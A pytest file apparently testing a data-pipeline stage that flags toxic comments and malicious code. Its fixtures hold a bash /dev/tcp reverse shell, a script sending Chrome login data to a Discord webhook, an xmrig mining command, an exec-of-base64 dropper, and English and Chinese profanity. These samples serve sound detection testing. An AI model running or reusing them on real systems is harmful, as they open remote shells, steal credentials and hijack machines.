"""The detox stage on Arrow batches: exact reasons and details, categories, thresholds, untouched rows."""
from __future__ import annotations

import pyarrow as pa
import pytest

from pipeline import reasons
from pipeline.config import DetoxConfig
from pipeline.detox.stage import Detoxifier
from pipeline.ingest.records import RawRecord, to_files_batch
from pipeline.stage import DETAIL, REASON

BUDGET_MS = 2000.0

FILES = {
    "toxic_en.py": ("import json\n\n\ndef load(path):\n    # this fucking API returns garbage again\n"
                    "    with open(path) as f:\n        return json.load(f)\n",
                    reasons.TOXIC_CONTENT, "toxic_en: 1 hit >= detox.min_toxic_hits=1 (fucking)"),
    "toxic_zh.java": ("public class Order {\n    // 这个傻逼接口又挂了，他妈的\n"
                      "    public int total() { return 0; }\n}\n",
                      reasons.TOXIC_CONTENT, "toxic_zh: 2 hits >= detox.min_toxic_hits=1 (傻逼, 他妈的)"),
    "shell.sh": ("#!/bin/bash\n# connect back\nbash -i >& /dev/tcp/10.10.14.3/4444 0>&1\n",
                 reasons.MALICIOUS_CODE, "reverse_shell: bash_dev_tcp"),
    "grab.py": ("import os, requests\np = os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data',"
                " 'Default', 'Login Data')\nrequests.post('https://discord.com/api/webhooks/1/x', files={'f': open(p,"
                " 'rb')})\n",
                reasons.MALICIOUS_CODE, "credential_stealer: browser_login_data_exfil"),
    "mine.sh": ("#!/bin/sh\n./xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u WALLET -p x\n",
                reasons.MALICIOUS_CODE, "crypto_miner: stratum_url"),
    "drop.py": ("import base64, zlib\nexec(zlib.decompress(base64.b64decode('eJzLSM3JyVcozy/KSQEAGgQEXQ==')))\n",
                reasons.MALICIOUS_CODE, "obfuscated_dropper: exec_decompress_base64"),
    "clean.py": ("class Parser:\n    \"\"\"Scunthorpe-safe: assert the class passes.\"\"\"\n\n"
                 "    def parse(self, text):\n        assert text, 'empty input'\n        return text.split()\n",
                 None, None),
    "names.py": ("def shitty_hash(data):\n    return sum(data) % 7\n", None, None),
    "doc.md": ("# Detector\n\nFinds reverse shells and crypto miners in process lists.\n", None, None),
    "注释.py": ("# 计算订单的总金额\ndef total(items):\n    return sum(i.price for i in items)\n", None, None),
}


def batch_of(files: dict) -> pa.RecordBatch:
    return to_files_batch([RawRecord("s", "r", path, text.encode()) for path, (text, *_) in files.items()])


def test_each_category_and_lookalikes():
    batch = batch_of(FILES)
    assert batch.column(REASON).null_count == batch.num_rows  # all admitted by ingest
    out = Detoxifier(DetoxConfig(), BUDGET_MS).apply(batch)
    assert out.schema == batch.schema and out.num_rows == batch.num_rows
    got = dict(zip(out.column("path").to_pylist(), zip(out.column(REASON).to_pylist(),
                                                        out.column(DETAIL).to_pylist())))
    assert got == {path: (reason, detail) for path, (_, reason, detail) in FILES.items()}


def test_malicious_outranks_toxic():
    text = "# fuck it\nbash -i >& /dev/tcp/10.0.0.1/9 0>&1\n"
    out = Detoxifier(DetoxConfig(), BUDGET_MS).apply(batch_of({"a.sh": (text,)}))
    assert out.column(REASON).to_pylist() == [reasons.MALICIOUS_CODE]


def test_only_configured_categories():
    stage = Detoxifier(DetoxConfig(categories=["toxic_en", "crypto_miner"]), BUDGET_MS)
    picked = {k: FILES[k] for k in ("toxic_en.py", "toxic_zh.java", "shell.sh", "mine.sh")}
    out = stage.apply(batch_of(picked))
    assert out.column(REASON).to_pylist() == [reasons.TOXIC_CONTENT, None, None, reasons.MALICIOUS_CODE]


def test_min_toxic_hits():
    one = "# shit\nx = 1\n"
    two = "# shit, this is shit\nx = 1\n"
    out = Detoxifier(DetoxConfig(min_toxic_hits=2), BUDGET_MS).apply(batch_of({"a.py": (one,), "b.py": (two,)}))
    assert out.column(REASON).to_pylist() == [None, reasons.TOXIC_CONTENT]
    assert out.column(DETAIL).to_pylist()[1] == "toxic_en: 2 hits >= detox.min_toxic_hits=2 (shit)"


def test_reads_only_content_and_language_and_leaves_rejected_rows():
    stage = Detoxifier(DetoxConfig(), BUDGET_MS)
    assert stage.reads == ("content", "language")
    batch = pa.RecordBatch.from_pydict({
        "content": ["# fuck\nx = 1\n", "# fuck\nx = 1\n", None, "def fuck():\n    pass\n"],
        "language": ["Python", "Python", None, "Python"],
        REASON: [None, "low_quality", None, None],
        DETAIL: [None, "earlier", None, None],
    })
    out = stage.apply(batch)
    assert out.column_names == ["content", "language", REASON, DETAIL]
    assert out.column(REASON).to_pylist() == [reasons.TOXIC_CONTENT, "low_quality", None, None]
    assert out.column(DETAIL).to_pylist()[1] == "earlier"


def test_batch_without_reject_pair_gets_one():
    out = Detoxifier(DetoxConfig(), BUDGET_MS).apply(
        pa.RecordBatch.from_pydict({"content": ["fine\n"], "language": ["Text"]}))
    assert out.column_names == ["content", "language", REASON, DETAIL]


def test_lists_dir_override(tmp_path):
    (tmp_path / "en.txt").write_text("frobnicate\n")
    stage = Detoxifier(DetoxConfig(lists_dir=str(tmp_path)), BUDGET_MS)
    out = stage.apply(batch_of({"a.py": ("# frobnicate\nx = 1\n",), "b.py": ("# fuck\nx = 1\n",)}))
    assert out.column(REASON).to_pylist() == [reasons.TOXIC_CONTENT, None]


def test_bad_lists_dir_fails_at_construction(tmp_path):
    with pytest.raises(ValueError, match="detox.lists_dir"):
        Detoxifier(DetoxConfig(lists_dir=str(tmp_path / "missing")), BUDGET_MS)
